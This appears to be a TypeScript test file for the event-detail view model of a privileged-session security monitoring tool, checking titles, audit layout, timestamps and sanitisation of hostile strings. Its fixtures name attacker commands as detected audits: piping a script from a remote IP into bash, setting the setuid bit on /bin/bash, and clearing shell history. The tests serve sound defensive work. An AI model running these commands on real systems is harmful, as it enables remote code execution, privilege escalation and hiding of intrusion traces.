import assert from 'node:assert/strict';
import { buildEventViewModel, epochTimes, EXPANDED_AUDITS_MAX } from '../../src/details/eventViewModel';
import { formatTime } from '../../src/model/format';
import { normalizeEvent } from '../../src/model/ptaEvent';
import { hostileEvents } from '../support/hostileEvents';
import { NOW, psmEvent } from '../support/psmEvent';

/** A signed-in vault's event: every action offered. */
const VAULT = { canOpenInPvwa: true, canTriage: true };

describe('buildEventViewModel', () => {
  it('names the page by type and short id', () => {
    const model = buildEventViewModel(psmEvent(), NOW, VAULT);
    assert.equal(model.title, 'Suspicious activity in a PSM session · 5f1e…78');
    assert.equal(model.typeName, 'Suspicious activity in a PSM session');
    assert.equal(model.statusText, 'Open');
  });

  it('titles each audit by its command, with who and where beside it and nothing twice', () => {
    const model = buildEventViewModel(psmEvent(), NOW, VAULT);
    assert.deepEqual(model.audits.map((a) => a.title), ['curl -s http://203.0.113.9/i.sh | bash', 'chmod 4755 /bin/bash', 'history -c']);
    assert.ok(model.audits.every((a) => a.isCommand));
    assert.equal(model.audits[0].actor, 'jsmith as Administrator@web-prod-33');
    assert.equal(model.audits[1].route, 'erp-dev-27.corp.example.com (10.25.171.60) → dc-prod-05.corp.example.com (10.1.109.150)');
    assert.equal(model.audits[0].time, formatTime(NOW - 3_600_000));
    assert.deepEqual(model.audits[0].fields.map(([label]) => label), ['Action', 'Type', 'Sensor', 'Time', 'Account ID']);
  });

  it('titles an audit without a command by its action', () => {
    const model = buildEventViewModel(psmEvent({ audits: [{ action: 'Logon', vaultUser: 'amy' }] }), NOW, { canOpenInPvwa: false, canTriage: true });
    assert.equal(model.audits[0].title, 'Logon');
    assert.equal(model.audits[0].isCommand, false);
    assert.deepEqual(model.audits[0].fields, []);
  });

  it('shows a host once, however many forms it came in', () => {
    const model = buildEventViewModel(psmEvent(), NOW, VAULT);
    assert.deepEqual(model.facts.find(([label]) => label === 'Targets'), ['Targets', 'dc-prod-05.corp.example.com (10.1.109.150)']);
  });

  it('expands few audits and tabulates many', () => {
    assert.equal(buildEventViewModel(psmEvent(), NOW, VAULT).auditLayout, 'expanded');
    const many = Array.from({ length: EXPANDED_AUDITS_MAX + 1 }, (_, i) => ({ psmCommand: `ls ${i}` }));
    assert.equal(buildEventViewModel(psmEvent({ audits: many }), NOW, VAULT).auditLayout, 'table');
  });

  it('gives every epoch-millisecond time in the raw JSON its date, as written in the JSON', () => {
    const model = buildEventViewModel(psmEvent({ additionalData: { aggregation_count: 12, seenAt: NOW - 5, ratio: 1.5e12 + 0.5 } }), NOW, VAULT);
    const times = new Map(model.rawJsonTimes);
    for (const ms of [NOW - 3_600_000, NOW - 120_000, NOW - 3_000_000, NOW - 5]) {
      assert.ok(model.rawJson.includes(String(ms)), `${ms} is in the JSON`);
      assert.equal(times.get(String(ms)), formatTime(ms));
    }
    assert.equal(times.has('12'), false);
    assert.equal(times.has(String(1.5e12 + 0.5)), false);
    assert.deepEqual(epochTimes({ a: 'text 1700000000000', b: [null, 1700000000000] }), [['1700000000000', formatTime(1700000000000)]]);
  });

  it('keeps a closed event\'s reason', () => {
    const model = buildEventViewModel(psmEvent({ mStatus: 'CLOSED', closeReason: 'HANDLED', reasonText: 'ok' }), NOW, VAULT);
    assert.equal(model.statusText, 'Closed · Handled');
    assert.equal(model.closeReason, 'Handled');
    assert.equal(model.reasonText, 'ok');
  });

  it('carries hostile strings as visible text only', () => {
    let audits = 0;
    for (const raw of hostileEvents(NOW)) {
      const model = buildEventViewModel(normalizeEvent(raw)!, NOW, VAULT);
      const { rawJson, ...shown } = model;
      for (const text of strings(shown)) {
        assert.doesNotMatch(text, /[\u0000-\u001f\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/, `event ${model.id}: ${JSON.stringify(text)}`);
        assert.notEqual(text, 'undefined');
      }
      assert.doesNotMatch(rawJson, /[\u202e\u2028\u200b]/);
      for (const audit of model.audits) assert.ok(audit.title.length > 0 && audit.title.length <= 2000);
      audits += model.audits.length;
    }
    assert.ok(audits > 40, `${audits} audits checked`);
  });
});

function strings(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (Array.isArray(value)) return value.flatMap(strings);
  if (value && typeof value === 'object') return Object.values(value).flatMap(strings);
  return [];
}
